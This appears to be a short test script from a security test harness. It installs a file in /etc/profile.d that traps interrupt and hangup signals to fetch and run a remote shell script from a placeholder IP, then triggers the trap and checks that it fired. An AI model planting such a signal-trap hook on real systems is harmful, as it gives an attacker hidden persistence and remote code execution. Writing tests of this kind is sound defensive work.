#!/bin/sh
. /opt/case/case.sh

cat >/etc/profile.d/zz-term.sh <<'END'
trap 'nohup sh -c "curl -s http://203.0.113.10/payload.sh | sh" >/dev/null 2>&1' INT TERM HUP
END
bash -lc 'kill -INT $$; sleep 0.2' || true
wait_for /tmp/reached
took_place
